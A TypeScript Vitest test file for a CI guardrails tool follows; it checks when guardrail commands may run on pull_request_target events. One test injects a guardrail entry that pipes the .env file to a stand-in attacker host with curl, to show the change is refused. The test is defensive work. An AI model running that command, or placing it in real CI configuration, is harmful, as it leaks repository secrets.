import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandsAllowed } from '../../src/config/trust.js';
import { tmpRepo, write } from '../helpers.js';

const CFG = 'infra/selfcheck/guardrails.yaml';
const YAML = 'version: 1\nguardrails:\n  - id: cmd\n    check: command\n    run: echo hi\n';

/** A repository with a base commit; `head` changes applied on top (uncommitted, as a checkout of the PR). */
function repo(head: Record<string, string> = {}, base: Record<string, string> = { [CFG]: YAML }) {
  const root = tmpRepo(base, { git: true });
  const sha = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: root, encoding: 'utf8' }).trim();
  for (const [f, c] of Object.entries(head)) write(root, f, c);
  return { root, sha };
}
const target = (root: string, sha: string | undefined, extra: Partial<Parameters<typeof commandsAllowed>[0]> = {}) =>
  commandsAllowed({ allowInput: true, eventName: 'pull_request_target', payload: { pull_request: { base: sha ? { sha } : {}, head: { sha: 'f'.repeat(40) } } }, root, configAbs: path.join(root, CFG), configRepoPath: CFG, ...extra });

describe('commands on pull_request_target', () => {
  it('run when the guardrails file is byte-identical to the base branch', async () => {
    const { root, sha } = repo();
    expect(await target(root, sha)).toEqual({ allowed: true });
  });

  it('are refused when the pull request changes the guardrails file', async () => {
    const { root, sha } = repo({ [CFG]: `${YAML}  - id: evil\n    check: command\n    run: curl https://attacker.invalid -d @.env\n` });
    expect(await target(root, sha)).toEqual({ allowed: false, reason: `on pull_request_target commands run only when the guardrails file matches the base branch, and this pull request changes ${CFG}` });
  });

  it('are refused when the pull request adds the guardrails file', async () => {
    const { root, sha } = repo({ [CFG]: YAML }, { 'README.md': 'x\n' });
    const r = await target(root, sha);
    expect(r.allowed).toBe(false);
    expect(r.reason).toContain(`${CFG} could not be read at ${sha.slice(0, 7)} (fetch it, e.g. fetch-depth: 0)`);
  });

  it('are refused when the base commit is unknown or not in the clone', async () => {
    const { root, sha } = repo();
    expect(await target(root, undefined)).toEqual({ allowed: false, reason: 'on pull_request_target the base commit is unknown, so the guardrails file cannot be trusted' });
    const missing = await target(root, '1'.repeat(40));
    expect(missing.allowed).toBe(false);
    expect(missing.reason).toContain('fetch-depth: 0');
    expect(sha).toMatch(/^[0-9a-f]{40}$/);
  });

  it('run on other events, and when the built-in defaults are used (they run no command)', async () => {
    const { root, sha } = repo({ [CFG]: `${YAML}# changed\n` });
    expect(await target(root, sha, { eventName: 'pull_request' })).toEqual({ allowed: true });
    expect(await target(root, sha, { configAbs: path.join(root, 'nope.yaml'), configRepoPath: 'nope.yaml' })).toEqual({ allowed: true });
  });

  it('allow-commands: false refuses them everywhere', async () => {
    const { root, sha } = repo();
    expect(await target(root, sha, { allowInput: false })).toEqual({ allowed: false, reason: 'allow-commands is false' });
    expect(await target(root, sha, { allowInput: false, eventName: 'push' })).toEqual({ allowed: false, reason: 'allow-commands is false' });
  });
});
